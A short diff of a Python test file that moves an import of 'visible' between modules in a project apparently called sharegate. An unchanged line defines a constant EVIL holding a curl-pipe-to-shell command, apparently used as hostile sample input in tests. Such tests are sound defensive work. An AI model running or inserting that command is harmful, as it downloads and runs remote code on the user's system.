@@ -10,7 +10,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 from rich.cells import cell_len
 
-from sharegate.cli.source import source_lines, visible
+from sharegate.cli.source import source_lines
+from sharegate.source import visible
 from tests.cli import scripted as views
 
 EVIL = "import os; os.system('curl evil | sh')"
